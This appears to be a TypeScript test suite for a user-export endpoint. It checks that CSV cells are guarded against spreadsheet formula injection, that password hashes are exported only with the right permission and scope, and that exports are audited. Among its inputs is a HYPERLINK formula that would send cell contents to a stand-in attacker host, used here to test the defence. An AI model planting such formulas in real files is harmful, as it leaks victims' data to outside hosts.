import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { unguarded } from '../../../src/users-transfer/csv-formula';
import { TestService } from '../../support/service';

describe('users in files', () => {
  let service: TestService;
  beforeAll(async () => {
    service = await TestService.start();
    await service.rows(`insert into roles (name, user_types, permissions) values
      ('exporter', '{system,carrier}', '{user:export}'), ('purger', '{system}', '{user:export,user:purge}')`);
  });
  afterAll(() => service.close());

  const rowsOf = (text: string) => parse(text, { columns: true }) as unknown as Record<string, string>[];

  it.each(['=HYPERLINK("http://evil.example/?"&A1)', '+1+1', '-1', '@SUM(A1)', "'=1", "''+1", '＝1+1', '=1,"2"'])(
    'writes %s as text for a spreadsheet, and imports it unchanged (O10)',
    async (first_name) => {
      const { user_id } = await service.createUser({ first_name, last_name: "O'Neill" });
      const { text } = await service.get(`/user/export?user_id=${user_id}`, service.admin);
      const [row] = rowsOf(text);
      expect(row).toMatchObject({ first_name: `'${first_name}`, last_name: "O'Neill" });
      expect(unguarded(row?.['first_name'] ?? '')).toBe(first_name);
    },
  );

  it('writes any text as one cell that is no formula, and imports it unchanged (O10)', async () => {
    const nasty = fc.string({ unit: fc.constantFrom(...`'"=+-@\t\r\n,; a＝＋－＠é😀`), maxLength: 8 });
    const texts = fc.sample(
      fc.oneof(
        nasty,
        fc.string({ unit: 'binary', maxLength: 20 }).filter((text) => !text.includes('\0')),
      ),
      3_000,
    );
    const cells = await service.rows<{ cell: string }>('select csv_cell(value) as cell from unnest($1::text[]) value', [
      texts,
    ]);
    cells.forEach(({ cell }, index) => {
      const [row] = cell === '' ? [['']] : parse(`${cell},end\r\n`);
      const shown = row?.[0] ?? '';
      expect(shown).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
      expect([cell, unguarded(shown)]).toEqual([cell, texts[index]]);
    });
  });

  it('exports no hash by default, even with user:purge (P10)', async () => {
    for (const format of ['csv', 'ndjson']) {
      const { text } = await service.get(`/user/export?format=${format}`, service.admin);
      expect(text).not.toMatch(/argon2|password_hash/);
    }
  });

  it('requires user:purge for hashes, regardless of other parameters (P10)', async () => {
    const { token } = await service.loginAs({ user_type: 'system', roles: ['exporter'] });
    for (const query of ['format=ndjson&hashes=true', 'hashes=true&nmae=1', 'format=csv&hashes=true']) {
      const { status, body } = await service.get(`/user/export?${query}`, { token });
      expect([query, status, body.code]).toEqual([query, 403, 'access.denied']);
    }
    expect((await service.get('/user/export?format=ndjson', { token })).status).toBe(200);
  });

  it('exports no hash of a user that the caller may not change, and records the export (P10)', async () => {
    const { token, user_id } = await service.loginAs({ user_type: 'system', roles: ['purger'] });
    const other = await service.createUser({ roles: ['carrier_user'] });
    const protectedOne = await service.createUser({ roles: ['carrier_administrator', 'carrier_user'] });
    const { text } = await service.get('/user/export?format=ndjson&hashes=true', { token });
    const hashes = new Map(
      text
        .split('\n')
        .slice(0, -1)
        .map((line) => JSON.parse(line) as { user_id: string; password_hash: string | null })
        .map((user) => [user.user_id, user.password_hash]),
    );
    expect(hashes.get(other.user_id)).toMatch(/^\$argon2id\$/);
    expect(hashes.get(protectedOne.user_id)).toBeNull();
    expect(hashes.get(user_id)).toMatch(/^\$argon2id\$/);
    expect(hashes.get(service.admin.user_id)).toBeNull();
    const { body } = await service.get('/audit/list?event_type=user.exported&per_page=1', service.admin);
    expect(body.items[0]).toMatchObject({
      actor_id: user_id,
      changes: { hashes: { after: true }, count: { after: hashes.size } },
    });
  });

  it('exports only users in scope, and records the event for the carrier of the caller (Z4)', async () => {
    const mine = await service.createUser({ carrier_id: 'c1' });
    await service.createUser({ carrier_id: 'c2' });
    await service.createUser({ user_type: 'system' });
    const callers = [
      await service.loginAs({ carrier_id: 'c1', roles: ['exporter'] }),
      await service.loginAs({ user_type: 'system', roles: ['exporter'], carrier_scope: ['c1'] }),
    ];
    for (const { token, user_id } of callers) {
      const rows = rowsOf((await service.get('/user/export', { token })).text);
      expect(rows.map((row) => row['user_id'])).toContain(mine.user_id);
      const outside = rows.filter((row) => row['carrier_id'] !== 'c1' && row['user_id'] !== user_id);
      expect(outside).toEqual([]);
    }
    const events = await service.rows<{ carrier_id: string | null }>(
      `
        select carrier_id
        from events
        where event_type = 'user.exported' and actor_id = any($1::uuid[])
        order by event_id`,
      [callers.map(({ user_id }) => user_id)],
    );
    expect(events.map(({ carrier_id }) => carrier_id)).toEqual(['c1', null]);
  });
});
